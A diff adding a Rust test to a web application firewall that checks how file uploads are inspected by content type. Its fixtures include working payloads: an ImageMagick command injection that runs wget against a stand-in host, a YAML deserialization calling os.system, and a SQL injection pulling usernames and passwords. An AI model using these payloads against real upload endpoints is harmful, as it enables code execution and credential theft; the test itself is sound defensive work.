@@ -940,4 +940,53 @@ mod tests {
         );
         assert!(v.blocked, "{:?}", found(&v));
     }
+
+    #[test]
+    fn uploads_by_what_they_are() {
+        let w = waf(Settings::default());
+        let upload = |ct: &str, content: &str| {
+            let body = format!(
+                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\nContent-Type: {ct}\r\n\r\n{content}\r\n--b--\r\n"
+            );
+            w.inspect(
+                &RequestView::new("POST", b"/up")
+                    .header("Content-Type", "multipart/form-data; boundary=b")
+                    .body(body.as_bytes()),
+            )
+            .blocked
+        };
+        // An image that is text (ImageMagick drawing commands) and configuration files.
+        assert!(upload(
+            "image/jpeg",
+            "push graphic-context\nfill 'url(https://x.example/a.jpg\"|wget http://x.example/s -O /tmp/s\")'\npop graphic-context"
+        ));
+        assert!(upload(
+            "application/x-yaml",
+            "a: !!python/object/apply:os.system [\"id\"]"
+        ));
+        assert!(upload(
+            "application/edi-x12",
+            "N1*ST*ACME' UNION SELECT username, password FROM partners--~"
+        ));
+        // A real image's bytes are not read as text.
+        let mut png = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n".to_vec();
+        png.extend_from_slice(b"|wget http://x.example/s -O /tmp/s\r\n--b--\r\n");
+        let v = w.inspect(
+            &RequestView::new("POST", b"/up")
+                .header("Content-Type", "multipart/form-data; boundary=b")
+                .body(&png),
+        );
+        assert!(!v.blocked, "{:?}", found(&v));
+        // SOAP with attachments: the root part names no field and declares 8bit.
+        let mtom = "--m\r\nContent-Type: application/xop+xml; type=\"application/soap+xml\"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><m:Upload xmlns:m=\"urn:x\">report</m:Upload></soap:Body></soap:Envelope>\r\n--m--\r\n";
+        let v = w.inspect(
+            &RequestView::new("POST", b"/soap")
+                .header(
+                    "Content-Type",
+                    "multipart/related; boundary=m; type=\"application/xop+xml\"",
+                )
+                .body(mtom.as_bytes()),
+        );
+        assert!(found(&v).is_empty(), "{:?}", found(&v));
+    }
 }
